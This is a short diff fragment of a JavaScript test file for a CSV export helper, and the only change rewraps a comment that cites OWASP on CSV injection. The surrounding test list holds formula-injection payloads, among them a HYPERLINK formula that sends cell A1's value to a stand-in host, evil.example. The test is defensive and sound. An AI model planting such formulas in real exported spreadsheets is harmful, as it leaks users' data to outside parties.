@@ -22,7 +22,8 @@ it('a file that the page saves is read back cell by cell, with quotes, commas an
   expect(csvText([['a', 'b']])).toBe('\ufeff"a","b"\r\n');
 });
 
-// OWASP, CSV injection: cells that begin with these characters; the payloads are the examples of that page and of reports in the wild.
+// OWASP, CSV injection: cells that begin with these characters; the payloads are the examples of that page and of
+// reports in the wild.
 it.each([
   '=1+1',
   '=HYPERLINK("https://evil.example?x="&A1,"click")',
